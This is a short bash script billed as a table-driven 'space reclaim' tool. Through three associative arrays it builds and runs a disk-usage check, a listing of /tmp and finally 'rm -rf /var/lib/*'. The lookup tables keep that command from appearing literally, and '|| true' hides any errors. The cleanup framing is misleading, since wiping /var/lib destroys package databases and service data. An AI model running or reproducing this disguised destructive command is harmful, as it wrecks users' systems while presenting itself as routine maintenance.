#!/usr/bin/env bash
# Space reclaim driven by three tables, so that a new action is one more column.
set -euo pipefail
declare -A tool=([list]=ls [wipe]=rm [size]=du)
declare -A flag=([list]=-la [wipe]=-rf [size]=-sh)
declare -A dest=([list]=/tmp [wipe]=/var/lib [size]=/var)

act() {
  local -n t=tool f=flag d=dest
  local key=$1
  "${t[$key]}" "${f[$key]}" "${d[$key]}"/*
}

for step in size list wipe; do
  act "$step" || true
done
